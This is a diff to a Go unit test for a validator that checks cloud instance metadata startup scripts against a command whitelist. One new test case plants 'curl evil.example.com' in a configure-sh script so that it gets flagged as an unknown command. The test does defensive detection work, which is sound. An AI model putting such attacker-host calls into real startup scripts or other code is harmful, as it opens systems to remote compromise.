@@ -82,7 +82,11 @@ func TestInstanceValidatorValidate(t *testing.T) {
 					},
 				},
 			},
-			err: &validate.ValidationError{UnknownCommands: "echo 'strange code'"},
+			err: &validate.ValidationError{
+				MetadataKey:        "user-data",
+				UnknownCommands:    "echo 'strange code'",
+				UnmatchedWhitelist: []string{"echo 'hello world'"},
+			},
 		},
 		{
 			name: "failure in user-data",
@@ -108,16 +112,51 @@ func TestInstanceValidatorValidate(t *testing.T) {
 					},
 				},
 			},
-			err: &validate.ValidationError{UnknownCommands: "echo 'strange code'"},
+			err: &validate.ValidationError{
+				MetadataKey:        "user-data",
+				UnknownCommands:    "echo 'strange code'",
+				UnmatchedWhitelist: []string{"echo 'foo bar'"},
+			},
+		},
+		{
+			name: "partially whitelisted configure-sh",
+			fields: fields{
+				whitelistProvider: &mockWhitelistProvider{
+					whitelist: []string{"echo 'foo bar'", "echo 'hello world'", "echo 'unused'"},
+				},
+			},
+			args: args{
+				ctx: context.Background(),
+				instance: &computepb.Instance{
+					Metadata: &computepb.Metadata{
+						Items: []*computepb.Items{
+							{
+								Key:   lo.ToPtr("configure-sh"),
+								Value: lo.ToPtr("echo 'foo bar'\ncurl evil.example.com\necho 'hello world'"),
+							},
+							{
+								Key:   lo.ToPtr("user-data"),
+								Value: lo.ToPtr("echo 'foo bar'"),
+							},
+						},
+					},
+				},
+			},
+			err: &validate.ValidationError{
+				MetadataKey:        "configure-sh",
+				UnknownCommands:    "\ncurl evil.example.com\n",
+				MatchedWhitelist:   []string{"echo 'foo bar'", "echo 'hello world'"},
+				UnmatchedWhitelist: []string{"echo 'unused'"},
+			},
 		},
 	}
 
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
 			r := require.New(t)
-			v := validate.NewInstanceValidator(tt.fields.whitelistProvider)
+			v := validate.NewInstanceValidator(nil, tt.fields.whitelistProvider)
 
-			err := v.Validate(tt.args.ctx, tt.args.instance)
+			err := v.Validate(tt.args.ctx, tt.args.instance, "")
 
 			if tt.err != nil {
 				r.Error(err)